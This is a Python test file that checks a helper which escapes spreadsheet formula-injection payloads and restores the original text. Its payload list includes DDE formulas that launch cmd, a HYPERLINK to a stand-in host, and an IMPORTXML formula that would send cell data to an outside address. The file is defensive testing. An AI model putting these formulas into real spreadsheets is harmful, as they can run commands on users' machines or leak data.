"""A cell with a formula is shown, never run, and comes back as it was."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from koopkracht.shared.cells import inert, original

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://kwaad.example","klik")', "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1",
    "\r=1+1", "\n=1+1", "\x00=1+1", " =1+1", "   +1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1",
    "＠SUM(1)", "−1+2", "|calc", "%0A=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "-2+3+cmd|' /C calc'!A0", "'=1+1",
    "''=1+1", "=IMPORTXML(CONCAT(\"http://x\";A1);\"//a\")", "\t", "\r\n=1", " \t @x",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_inert_and_comes_back(payload):
    cell = inert(payload)
    assert cell.startswith("'")
    assert original(cell) == payload


@pytest.mark.parametrize("text", ["", "Van Acker & Zonen", "12,50", "a=b", "info@voorbeeld.be", "O'Brien"])
def test_ordinary_text_is_left_alone(text):
    assert inert(text) == text
    assert original(text) == text


@given(st.text(max_size=40))
def test_nothing_is_lost(text):
    assert original(inert(text)) == text
